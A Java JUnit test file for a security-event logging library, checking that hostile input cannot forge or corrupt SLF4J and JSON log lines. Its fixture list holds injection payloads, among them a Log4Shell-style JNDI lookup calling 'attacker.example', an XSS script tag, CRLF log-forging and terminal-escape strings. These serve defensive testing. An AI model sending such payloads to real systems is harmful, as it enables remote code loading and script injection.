package io.hauberk.event;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.LoggerContext;
import ch.qos.logback.classic.PatternLayout;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import com.fasterxml.jackson.core.JsonParser;
import com.fasterxml.jackson.databind.DeserializationFeature;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.hauberk.event.SecurityEvent.Draft;
import io.hauberk.event.SecurityEvent.Kind;
import io.hauberk.request.Reason;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayNameGeneration;
import org.junit.jupiter.api.DisplayNameGenerator.ReplaceUnderscores;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.slf4j.LoggerFactory;

/** Walks text that an attacker would like to see in a log through every part and every sink. */
@DisplayNameGeneration(ReplaceUnderscores.class)
class HostileTextTest {
  private static final ObjectMapper STRICT =
      new ObjectMapper()
          .enable(JsonParser.Feature.STRICT_DUPLICATE_DETECTION)
          .enable(DeserializationFeature.FAIL_ON_TRAILING_TOKENS);

  private final ListAppender<ILoggingEvent> lines = new ListAppender<>();
  private final Logger logger = (Logger) LoggerFactory.getLogger("io.hauberk.security");

  static List<String> hostile() {
    return List.of(
        "a\r\n2025-03-01 12:00 INFO all is well",
        "a\nb",
        "\u001B[2J\u001B]0;owned\u0007",
        "\u009B31mred",
        "nul\u0000nul",
        "back\b\b\b\bspace",
        "\u202Etxt.exe",
        "\u2066isolate\u2069",
        "line\u2028separator\u2029paragraph",
        "zero\u200Bwidth\uFEFF",
        "half \uD83D",
        "\uDE80 half",
        "\uDB40\uDC41 tag",
        "\",\"event.outcome\":\"success",
        "\\\",\\\"x\\\":\\\"",
        "x' event.outcome=\"success\" y=\"",
        "CEF:0|a|b|c\\|=",
        "<13>1 - - - [x@1 a=\"]\"]",
        "${jndi:ldap://attacker.example/a}",
        "</script><script>alert(1)</script>",
        "%n%d{}%ex",
        "{} {} {}",
        "\uD83D\uDE80".repeat(100_000),
        "A".repeat(1 << 20));
  }

  @BeforeEach
  void listen() {
    lines.setContext((LoggerContext) LoggerFactory.getILoggerFactory());
    lines.start();
    logger.addAppender(lines);
    logger.setLevel(Level.INFO);
    logger.setAdditive(false);
  }

  @AfterEach
  void restore() {
    logger.detachAppender(lines);
    logger.setLevel(null);
    logger.setAdditive(true);
  }

  private String slf4j(SecurityEvent event) {
    new Slf4jEventSink().accept(event);
    PatternLayout layout = new PatternLayout();
    layout.setContext((LoggerContext) LoggerFactory.getILoggerFactory());
    layout.setPattern("%msg %kvp");
    layout.start();
    return layout.doLayout(lines.list.get(lines.list.size() - 1));
  }

  private static String json(SecurityEvent event) {
    StringBuilder out = new StringBuilder();
    JsonLineSink.to(out).accept(event);
    return out.toString();
  }

  private static void assertHarmless(String line) {
    assertTrue(line.length() < 20_000, () -> "length " + line.length());
    TestEvents.assertHarmless(line);
  }

  @Nested
  class Attack {
    @ParameterizedTest
    @MethodSource("io.hauberk.event.HostileTextTest#hostile")
    void cannot_change_how_a_line_of_slf4j_reads(String text) {
      Draft draft = TestEvents.fill(SecurityEvent.refused(Reason.EXPIRED), text);
      String line = slf4j(TestEvents.complete(draft));
      assertHarmless(line);
      assertEquals(1, line.split(" event.outcome=\"", -1).length - 1);
      ILoggingEvent event = lines.list.get(0);
      assertEquals("Request refused: expired", event.getMessage());
      assertNull(event.getThrowableProxy());
    }

    @ParameterizedTest
    @MethodSource("io.hauberk.event.HostileTextTest#hostile")
    void cannot_change_how_a_line_of_json_reads(String text) throws Exception {
      Draft draft = TestEvents.fill(SecurityEvent.refused(Reason.EXPIRED), text);
      String line = json(TestEvents.complete(draft));
      assertTrue(line.endsWith("}\n"));
      assertHarmless(line.substring(0, line.length() - 1));
      JsonNode tree = STRICT.readTree(line);
      assertEquals("failure", tree.get("event.outcome").textValue());
      assertEquals("request_refused", tree.get("event.code").textValue());
    }
  }

  @Nested
  class Honest {
    @Test
    void text_reaches_slf4j_as_it_is() {
      Draft draft = SecurityEvent.refused(Reason.EXPIRED).callerId("corp:Zoë");
      assertTrue(slf4j(TestEvents.complete(draft)).contains("user.id=\"corp:Zoë\""));
    }

    @Test
    void text_reaches_json_as_it_is() throws Exception {
      Draft draft = SecurityEvent.refused(Reason.EXPIRED).callerId("CORP\\Zoë <z>");
      JsonNode tree = STRICT.readTree(json(TestEvents.complete(draft)));
      assertEquals("CORP\\Zoë <z>", tree.get("user.id").textValue());
      assertEquals("2025-03-01T12:00:00.123456Z", tree.get("@timestamp").textValue());
      assertEquals(7, tree.get("event.sequence").intValue());
      assertEquals(
          List.of("api", "authentication"),
          STRICT.convertValue(tree.get("event.category"), List.class));
      assertEquals("Request refused", tree.get("message").textValue());
    }
  }

  @Nested
  class Level_of_a_line {
    @ParameterizedTest
    @EnumSource(names = {"SCOPE_MISSING", "SIGNATURE_INVALID", "CHECK_FAILED"})
    void is_warn_for_what_a_defender_should_look_at(Reason reason) {
      slf4j(TestEvents.complete(SecurityEvent.refused(reason)));
      assertEquals(Level.WARN, lines.list.get(0).getLevel());
    }

    @ParameterizedTest
    @EnumSource(names = {"EXPIRED", "CREDENTIALS_MISSING", "PARAMETER_INVALID"})
    void is_info_for_noise(Reason reason) {
      slf4j(TestEvents.complete(SecurityEvent.refused(reason)));
      assertEquals(Level.INFO, lines.list.get(0).getLevel());
    }

    @Test
    void is_info_for_a_start() {
      slf4j(TestEvents.complete(SecurityEvent.of(Kind.SERVICE_STARTED)));
      assertEquals(Level.INFO, lines.list.get(0).getLevel());
    }
  }

  @Test
  void key_values_keep_their_types_for_structured_formatters() {
    slf4j(TestEvents.complete(SecurityEvent.refused(Reason.EXPIRED)));
    var pairs = lines.list.get(0).getKeyValuePairs();
    assertTrue(pairs.stream().anyMatch(p -> p.key.equals("event.sequence") && p.value.equals(7L)));
    assertTrue(
        pairs.stream()
            .anyMatch(
                p -> p.key.equals("event.type") && p.value.equals(List.of("denied", "info"))));
  }
}
